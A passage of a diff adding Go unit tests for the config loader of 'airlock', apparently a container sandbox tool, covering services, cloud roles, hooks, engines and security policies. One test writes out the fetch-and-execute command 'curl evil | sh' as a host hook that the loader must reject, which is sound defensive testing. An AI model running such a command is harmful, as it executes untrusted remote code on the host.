+	if _, err := Load(cfgPath); err == nil {
+		t.Errorf("expected nestedContainers with auditSyscalls to be rejected")
+	}
+}
+
+func TestLoadServices(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	t.Setenv("PG_VERSION", "16")
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := `name: test
+image: alpine
+services:
+  db:
+    image: postgres:${PG_VERSION}
+    env:
+      POSTGRES_PASSWORD: dev
+    ports: ["127.0.0.1:5432:5432"]
+  cache:
+    image: redis:7
+`
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	db := cfg.Services["db"]
+	if db.Image != "postgres:16" || db.Env["POSTGRES_PASSWORD"] != "dev" || len(db.Ports) != 1 || db.Ports[0].Container != 5432 {
+		t.Errorf("unexpected db service: %+v", db)
+	}
+	if cfg.Services["cache"].Image != "redis:7" {
+		t.Errorf("unexpected cache service: %+v", cfg.Services["cache"])
+	}
+
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\ncompose:\n  file: compose.yaml\n  attach: true\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Compose == nil || cfg.Compose.File != "compose.yaml" || !cfg.Compose.Attach {
+		t.Errorf("unexpected compose: %+v", cfg.Compose)
+	}
+
+	for _, bad := range []string{
+		"services:\n  db: {}\n",
+		"services:\n  DB:\n    image: postgres\n",
+		"network:\n  mode: none\nservices:\n  db:\n    image: postgres\n",
+		"compose:\n  attach: true\n",
+		"compose:\n  file: compose.yaml\n  attach: true\nservices:\n  db:\n    image: postgres\n",
+	} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadCloud(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := `name: test
+image: alpine
+cloud:
+  aws:
+    roleArn: arn:aws:iam::123456789012:role/dev
+    region: eu-west-1
+    duration: 2h
+  gcp:
+    serviceAccount: agent@proj.iam.gserviceaccount.com
+`
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Cloud == nil || cfg.Cloud.AWS == nil || cfg.Cloud.AWS.Region != "eu-west-1" || time.Duration(cfg.Cloud.AWS.Duration) != 2*time.Hour {
+		t.Errorf("unexpected cloud.aws: %+v", cfg.Cloud)
+	}
+	if cfg.Cloud.GCP == nil || cfg.Cloud.GCP.ServiceAccount != "agent@proj.iam.gserviceaccount.com" {
+		t.Errorf("unexpected cloud.gcp: %+v", cfg.Cloud.GCP)
+	}
+
+	for _, bad := range []string{
+		"cloud:\n  aws:\n    region: eu-west-1\n",
+		"cloud:\n  aws:\n    roleArn: arn:aws:iam::1:role/x\n    duration: 24h\n",
+		"cloud:\n  gcp: {}\n",
+	} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadSSO(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := `name: test
+image: alpine
+sso:
+  kerberos: true
+  sockets:
+    - source: ~/.cache/corp-sso/agent.sock
+      env: CORP_SSO_SOCK
+    - source: /run/user/1000/helper.sock
+      target: /tmp/helper.sock
+`
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.SSO == nil || !cfg.SSO.Kerberos || len(cfg.SSO.Sockets) != 2 {
+		t.Fatalf("unexpected sso: %+v", cfg.SSO)
+	}
+	if got := cfg.SSO.Sockets[0].Target; got != "/run/airlock-sso/agent.sock" {
+		t.Errorf("default target = %q, want /run/airlock-sso/agent.sock", got)
+	}
+	if got := cfg.SSO.Sockets[1].Target; got != "/tmp/helper.sock" {
+		t.Errorf("target = %q, want /tmp/helper.sock", got)
+	}
+	if home, err := os.UserHomeDir(); err == nil {
+		if got, want := cfg.SSO.Sockets[0].Path(tmpDir), filepath.Join(home, ".cache/corp-sso/agent.sock"); got != want {
+			t.Errorf("Path() = %q, want %q", got, want)
+		}
+	}
+
+	for _, bad := range []string{
+		"sso:\n  sockets:\n    - target: /tmp/a.sock\n",
+		"sso:\n  sockets:\n    - source: /a.sock\n      target: a.sock\n",
+		"sso:\n  sockets:\n    - source: /a/x.sock\n    - source: /b/x.sock\n",
+		"sso:\n  sockets:\n    - source: /a.sock\n      env: 1BAD\n",
+	} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestParseAssumeRole(t *testing.T) {
+	out := `{"Credentials": {"AccessKeyId": "ASIAEXAMPLE", "SecretAccessKey": "secret", "SessionToken": "token", "Expiration": "2026-10-15T12:00:00+00:00"}, "AssumedRoleUser": {}}`
+	env, err := parseAssumeRole([]byte(out))
+	if err != nil {
+		t.Fatalf("parseAssumeRole failed: %v", err)
+	}
+	want := []string{
+		"AWS_ACCESS_KEY_ID=ASIAEXAMPLE",
+		"AWS_SECRET_ACCESS_KEY=secret",
+		"AWS_SESSION_TOKEN=token",
+		"AWS_CREDENTIAL_EXPIRATION=2026-10-15T12:00:00+00:00",
+	}
+	if strings.Join(env, "\n") != strings.Join(want, "\n") {
+		t.Errorf("parseAssumeRole = %v, want %v", env, want)
+	}
+	if _, err := parseAssumeRole([]byte(`{"Credentials": {}}`)); err == nil {
+		t.Errorf("expected error for empty credentials")
+	}
+}
+
+func TestLoadEngine(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	cases := []struct {
+		engine string
+		want   EngineConfig
+	}{
+		{"engine: podman\n", EngineConfig{Type: "podman"}},
+		{"engine:\n  type: docker\n  host: ssh://me@buildbox\n", EngineConfig{Type: "docker", Host: "ssh://me@buildbox"}},
+		{"engine:\n  context: buildbox\n", EngineConfig{Type: "docker", Context: "buildbox"}},
+		{"engine:\n  connection: buildbox\n", EngineConfig{Type: "podman", Connection: "buildbox"}},
+		{"engine:\n  type: podman\n  autoStartMachine: true\n", EngineConfig{Type: "podman", AutoStartMachine: true}},
+		{"engine:\n  type: podman\n  syncClock: true\n", EngineConfig{Type: "podman", SyncClock: true}},
+	}
+	for _, c := range cases {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+c.engine), 0644); err != nil {
+			t.Fatal(err)
+		}
+		cfg, err := Load(cfgPath)
+		if err != nil {
+			t.Fatalf("Load(%q) failed: %v", c.engine, err)
+		}
+		if cfg.Engine != c.want {
+			t.Errorf("Load(%q): engine = %+v, want %+v", c.engine, cfg.Engine, c.want)
+		}
+	}
+
+	for _, bad := range []string{
+		"engine:\n  type: podman\n  host: ssh://me@buildbox\n",
+		"engine:\n  host: ssh://me@buildbox\n  context: buildbox\n",
+		"engine:\n  type: docker\n  connection: buildbox\n",
+		"engine:\n  context: buildbox\n  connection: buildbox\n",
+	} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadEngineLocal(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tmpDir, ".airlock"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	localPath := filepath.Join(tmpDir, ".airlock", "airlock.local.yaml")
+	cases := []struct {
+		project, local string
+		want           EngineConfig
+	}{
+		{"engine: podman\n", "", EngineConfig{Type: "podman"}},
+		{"engine: podman\n", "engine: docker\n", EngineConfig{Type: "docker"}},
+		{"", "engine: docker\n", EngineConfig{Type: "docker"}},
+		// Switching engines drops the project's connection, which docker can't use.
+		{"engine:\n  connection: buildbox\n  autoStartMachine: true\n", "engine: docker\n", EngineConfig{Type: "docker", AutoStartMachine: true}},
+		{"engine:\n  type: podman\n  connection: buildbox\n", "engine:\n  type: docker\n  context: desktop-linux\n", EngineConfig{Type: "docker", Context: "desktop-linux"}},
+		{"engine:\n  type: docker\n  host: ssh://me@buildbox\n", "engine: podman\n", EngineConfig{Type: "podman"}},
+		// Naming the same engine, or only other settings, keeps the project's remote.
+		{"engine:\n  type: docker\n  host: ssh://me@buildbox\n", "engine: docker\n", EngineConfig{Type: "docker", Host: "ssh://me@buildbox"}},
+		{"engine:\n  connection: buildbox\n", "engine:\n  syncClock: true\n", EngineConfig{Type: "podman", Connection: "buildbox", SyncClock: true}},
+		// A local remote replaces the project's.
+		{"engine:\n  host: ssh://me@buildbox\n", "engine:\n  context: other\n", EngineConfig{Type: "docker", Context: "other"}},
+	}
+	for _, c := range cases {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+c.project), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(localPath, []byte(c.local), 0644); err != nil {
+			t.Fatal(err)
+		}
+		cfg, err := Load(cfgPath)
+		if err != nil {
+			t.Fatalf("Load(%q, local %q) failed: %v", c.project, c.local, err)
+		}
+		if cfg.Engine != c.want {
+			t.Errorf("Load(%q, local %q): engine = %+v, want %+v", c.project, c.local, cfg.Engine, c.want)
+		}
+	}
+}
+
+func TestLoadLabels(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	t.Setenv("TEAM", "payments")
+	content := "name: test\nimage: alpine\nlabels:\n  com.acme.team: ${TEAM}\nannotations:\n  com.acme.cost-center: \"4711\"\n"
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Labels["com.acme.team"] != "payments" || cfg.Annotations["com.acme.cost-center"] != "4711" {
+		t.Errorf("unexpected labels %v, annotations %v", cfg.Labels, cfg.Annotations)
+	}
+
+	for _, bad := range []string{"labels:\n  airlock.project: x\n", "annotations:\n  \"a=b\": x\n"} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadEngineSocket(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nengineSocket:\n  images: [\"postgres:*\"]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.EngineSocket == nil || len(cfg.EngineSocket.Images) != 1 || cfg.EngineSocket.Images[0] != "postgres:*" {
+		t.Errorf("unexpected engineSocket: %+v", cfg.EngineSocket)
+	}
+
+	for _, bad := range []string{"engineSocket: {}\n", "engineSocket:\n  images: [\"[\"]\n"} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadResources(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nresources: {cpus: 1.5, memory: 4g, pids: 512}\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Resources.CPUs != 1.5 || cfg.Resources.Memory != 4<<30 || cfg.Resources.Pids != 512 {
+		t.Errorf("unexpected resources: %+v", cfg.Resources)
+	}
+
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nresources: {pids: -1}\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(cfgPath); err == nil {
+		t.Errorf("expected error for negative pids")
+	}
+}
+
+func TestLoadHooks(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := "name: test\nimage: alpine\nhooks:\n  postCreate:\n    - npm install\n    - make setup\n  preStop: [\"npm cache clean --force\"]\n"
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	localPath := filepath.Join(tmpDir, ".airlock", "airlock.local.yaml")
+	if err := os.MkdirAll(filepath.Dir(localPath), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(localPath, []byte("hooks:\n  onExit: [\"./revoke-creds.sh\"]\n  onDown: [\"pkill -f tunnel\"]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(cfg.Hooks.PostCreate) != 2 || cfg.Hooks.PostCreate[1] != "make setup" {
+		t.Errorf("unexpected postCreate hooks: %v", cfg.Hooks.PostCreate)
+	}
+	if len(cfg.Hooks.PostStart) != 0 || len(cfg.Hooks.PreStop) != 1 {
+		t.Errorf("unexpected hooks: %+v", cfg.Hooks)
+	}
+	if len(cfg.Hooks.OnExit) != 1 || cfg.Hooks.OnExit[0] != "./revoke-creds.sh" || len(cfg.Hooks.OnDown) != 1 {
+		t.Errorf("unexpected host hooks: %+v", cfg.Hooks)
+	}
+
+	// The sandbox can edit airlock.yaml, so host hooks there would run its commands on the host.
+	for _, hook := range []string{"onExit", "onDown"} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nhooks:\n  "+hook+": [\"curl evil | sh\"]\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected hooks.%s in airlock.yaml to be rejected", hook)
+		}
+	}
+}
+
+func TestLoadWorkspace(t *testing.T) {
+	tmpDir := t.TempDir()
+	for _, p := range []string{"api", "web"} {
+		if err := os.MkdirAll(filepath.Join(tmpDir, p), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(tmpDir, p, "airlock.yaml"), []byte("name: "+p+"\nimage: alpine\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	wsPath := filepath.Join(tmpDir, WorkspaceFileName)
+	if err := os.WriteFile(wsPath, []byte("projects:\n  - api\n  - ./web\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	found, err := FindWorkspace(filepath.Join(tmpDir, "api"))
+	if err != nil {
+		t.Fatalf("FindWorkspace failed: %v", err)
+	}
+	w, err := LoadWorkspace(found)
+	if err != nil {
+		t.Fatalf("LoadWorkspace failed: %v", err)
+	}
+	if len(w.Projects) != 2 {
+		t.Fatalf("expected 2 projects, got %v", w.Projects)
+	}
+	cfgFile, err := w.ProjectConfig("./web")
+	if err != nil || cfgFile != filepath.Join(tmpDir, "web", "airlock.yaml") {
+		t.Errorf("ProjectConfig = %q, %v", cfgFile, err)
+	}
+
+	for _, bad := range []string{"projects: []\n", "projects: [api, missing]\n", "projects: [api, ./api]\n"} {
+		if err := os.WriteFile(wsPath, []byte(bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := LoadWorkspace(wsPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadCrossPlatform(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	write := func(s string) {
+		t.Helper()
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+s), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	write("crossPlatform: true\ngit:\n  autocrlf: \"false\"\n")
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Git.AutoCRLF != "false" {
+		t.Errorf("git.autocrlf = %q, want the explicit false", cfg.Git.AutoCRLF)
+	}
+	if cfg.Git.FileMode == nil || *cfg.Git.FileMode || !cfg.Git.SafeDirectory || cfg.Shell.Umask != "0022" {
+		t.Errorf("crossPlatform defaults not applied: git %+v, umask %q", cfg.Git, cfg.Shell.Umask)
+	}
+
+	write("shell:\n  umask: \"077\"\n")
+	if cfg, err = Load(cfgPath); err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Git.FileMode != nil || cfg.Git.SafeDirectory || cfg.Shell.Umask != "077" {
+		t.Errorf("unexpected settings without crossPlatform: git %+v, umask %q", cfg.Git, cfg.Shell.Umask)
+	}
+
+	for _, bad := range []string{"shell:\n  umask: \"0088\"\n", "shell:\n  umask: \"u=rwx\"\n", "git:\n  autocrlf: crlf\n"} {
+		write(bad)
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadSharedHost(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	u, err := user.Current()
+	if err != nil {
+		t.Skip(err)
+	}
+	owner := sanitizeUser(u.Username)
+
+	t.Setenv(SharedHostEnv, "")
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.SharedHost || cfg.Name != "test" {
+		t.Errorf("shared-host mode on without being enabled: %+v", cfg)
+	}
+
+	t.Setenv(SharedHostEnv, "1")
+	if cfg, err = Load(cfgPath); err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if !cfg.SharedHost || cfg.Owner != owner || cfg.Name != owner+"-test" {
+		t.Errorf("name = %q, owner = %q; want %q, %q", cfg.Name, cfg.Owner, owner+"-test", owner)
+	}
+	if want := "./.airlock/users/" + owner + "/home"; cfg.HomeDir != want {
+		t.Errorf("home = %q, want %q", cfg.HomeDir, want)
+	}
+}
+
+func TestSanitizeUser(t *testing.T) {
+	for in, want := range map[string]string{
+		"alice":         "alice",
+		"CORP\\Bob":     "bob",
+		"carol@EXAMPLE": "carol-example",
+		"d.e_f-g":       "d.e_f-g",
+	} {
+		if got := sanitizeUser(in); got != want {
+			t.Errorf("sanitizeUser(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestLoadCommand(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := "name: test\nimage: alpine\ncommand: [npm, run, dev]\ndetachKeys: ctrl-x\n"
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(cfg.Command) != 3 || cfg.Command[2] != "dev" || cfg.DetachKeys != "ctrl-x" {
+		t.Errorf("unexpected command %v, detachKeys %q", cfg.Command, cfg.DetachKeys)
+	}
+}
+
+func TestLoadPlatform(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	for _, platform := range []string{"linux/amd64", "linux/arm64/v8"} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nplatform: "+platform+"\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+		cfg, err := Load(cfgPath)
+		if err != nil {
+			t.Fatalf("Load(%q) failed: %v", platform, err)
+		}
+		if cfg.Platform != platform {
+			t.Errorf("expected platform %q, got %q", platform, cfg.Platform)
+		}
+	}
+	for _, platform := range []string{"amd64", "linux/", "Linux/AMD64", "linux/amd64/v8/x"} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nplatform: "+platform+"\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("Load(%q): expected an error", platform)
+		}
+	}
+}
+
+func TestLoadPropagate(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\npropagate:\n  timezone: true\n  locale: true\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if !cfg.Propagate.Timezone || !cfg.Propagate.Locale {
+		t.Errorf("expected timezone and locale to be propagated, got %+v", cfg.Propagate)
+	}
+}
+
+func TestLoadUser(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	cases := []struct {
+		user       string
+		spec, home string
+	}{
+		{"user:\n  name: dev\n", "dev", "/home/dev"},
+		{"user:\n  name: dev\n  uid: 1001\n", "1001:1001", "/home/dev"},
+		{"user:\n  uid: 1001\n  gid: 100\n  home: /work/home\n", "1001:100", "/work/home"},
+		{"user:\n  uid: 0\n", "0:0", "/root"},
+		{"user:\n  name: root\n", "root", "/root"},
+	}
+	for _, c := range cases {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+c.user), 0644); err != nil {
+			t.Fatal(err)
+		}
+		cfg, err := Load(cfgPath)
+		if err != nil {
+			t.Fatalf("Load(%q) failed: %v", c.user, err)
+		}
+		if cfg.User == nil {
+			t.Fatalf("Load(%q): user not set", c.user)
+		}
+		if cfg.User.Spec() != c.spec || cfg.User.HomeDir() != c.home {
+			t.Errorf("Load(%q): spec %q home %q, want %q %q", c.user, cfg.User.Spec(), cfg.User.HomeDir(), c.spec, c.home)
+		}
+	}
+
+	for _, bad := range []string{
+		"user:\n  home: /home/dev\n",
+		"user:\n  uid: 1001\n",
+		"user:\n  name: dev\n  gid: 100\n",
+		"user:\n  name: dev\n  uid: -1\n",
+		"user:\n  name: dev\n  home: home/dev\n",
+		"user:\n  name: \"dev:x\"\n",
+	} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadContainerWorkDir(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\ncontainerWorkdir: /src/app\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.ContainerWorkDir != "/src/app" {
+		t.Errorf("expected containerWorkdir /src/app, got %q", cfg.ContainerWorkDir)
+	}
+
+	for _, bad := range []string{"containerWorkdir: src\n", "containerWorkdir: /\n", "containerWorkdir: //\n"} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestApplyInstance(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := `name: test
+image: alpine
+env:
+  BRANCH: main
+instances:
+  featureX:
+    workdir: ../test-featureX
+    env:
+      BRANCH: featureX
+`
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if err := cfg.ApplyInstance(""); err != nil || cfg.Name != "test" {
+		t.Fatalf("expected an empty instance to be a no-op: %v", err)
+	}
+	if err := cfg.ApplyInstance("featureX"); err != nil {
+		t.Fatalf("ApplyInstance failed: %v", err)
+	}
+	if cfg.Name != "test-featureX" || cfg.Instance != "featureX" {
+		t.Errorf("unexpected name/instance: %q %q", cfg.Name, cfg.Instance)
+	}
+	if cfg.HomeDir != "./.airlock/home-featureX" || cfg.CacheDir != "./.airlock/cache-featureX" {
+		t.Errorf("expected separate home and cache, got %q %q", cfg.HomeDir, cfg.CacheDir)
+	}
+	if cfg.WorkDir != "../test-featureX" || cfg.Env["BRANCH"] != "featureX" {
+		t.Errorf("expected the instance's workdir and env, got %q %q", cfg.WorkDir, cfg.Env["BRANCH"])
+	}
+
+	// Undeclared instances only get their own container, home, and cache.
+	cfg, err = Load(cfgPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.ApplyInstance("spike"); err != nil {
+		t.Fatalf("ApplyInstance failed: %v", err)
+	}
+	if cfg.Name != "test-spike" || cfg.WorkDir != "." || cfg.Env["BRANCH"] != "main" {
+		t.Errorf("unexpected undeclared instance: %q %q %q", cfg.Name, cfg.WorkDir, cfg.Env["BRANCH"])
+	}
+	if err := cfg.ApplyInstance("-bad"); err == nil {
+		t.Error("expected an error for an invalid instance name")
+	}
+}
+
+func TestLoadPolicy(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	load := func(content string) (*Config, error) {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return Load(cfgPath)
+	}
+
+	cfg, err := load("policy: strict\nresources: {memory: 8g}\nprotect: [secrets/**]\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Network.Mode != NetworkNone {
+		t.Errorf("expected strict to disable the network, got %q", cfg.Network.Mode)
+	}
+	if cfg.Resources.Memory != 8<<30 || cfg.Resources.Pids != 512 {
+		t.Errorf("expected explicit memory to win and pids to be filled in, got %+v", cfg.Resources)
+	}
+	if len(cfg.Security.CapDrop) != 1 || cfg.Security.CapDrop[0] != "ALL" {
+		t.Errorf("expected all capabilities dropped, got %v", cfg.Security.CapDrop)
+	}
+	if cfg.Protect[0] != "secrets/**" || len(cfg.Protect) < 2 {
+		t.Errorf("expected the preset's protect paths added to the config's, got %v", cfg.Protect)
+	}
+	for name, denied := range map[string]bool{"GITHUB_TOKEN": true, "AWS_REGION": true, "OPENAI_API_KEY": true, "TERM": false} {
+		if cfg.EnvDenied(name) != denied {
+			t.Errorf("EnvDenied(%q) = %v, want %v", name, !denied, denied)
+		}
+	}
+
+	// An allowlist keeps the bridge network under any policy.
+	cfg, err = load("policy: strict\nnetwork:\n  allow: [github.com]\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Network.Mode != NetworkBridge {
+		t.Errorf("expected an allowlist to keep the bridge network, got %q", cfg.Network.Mode)
+	}
+
+	cfg, err = load("policy: open\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Network.Mode != NetworkBridge || len(cfg.Security.CapDrop) != 0 || len(cfg.EnvDeny) != 0 || cfg.Resources != (Resources{}) {
+		t.Errorf("expected open to change nothing, got %+v", cfg)
+	}
+
+	for _, bad := range []string{
+		"policy: paranoid\n",
+		"policy: standard\nenv:\n  GITHUB_TOKEN: abc\n",
+		"envDeny: ['[']\n",
+		"policy: strict\nnestedContainers: true\n",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadCapabilities(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	load := func(content string) (*Config, error) {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return Load(cfgPath)
+	}
+
+	cfg, err := load("security:\n  hardened: true\n  capAdd: [cap_chown, NET_BIND_SERVICE]\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if strings.Join(cfg.Security.CapDrop, ",") != "ALL" || strings.Join(cfg.Security.CapAdd, ",") != "CHOWN,NET_BIND_SERVICE" {
+		t.Errorf("unexpected capabilities: drop %v, add %v", cfg.Security.CapDrop, cfg.Security.CapAdd)
+	}
+
+	// capAdd grants back a capability the policy preset drops.
+	cfg, err = load("policy: standard\nsecurity:\n  capAdd: [NET_RAW]\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
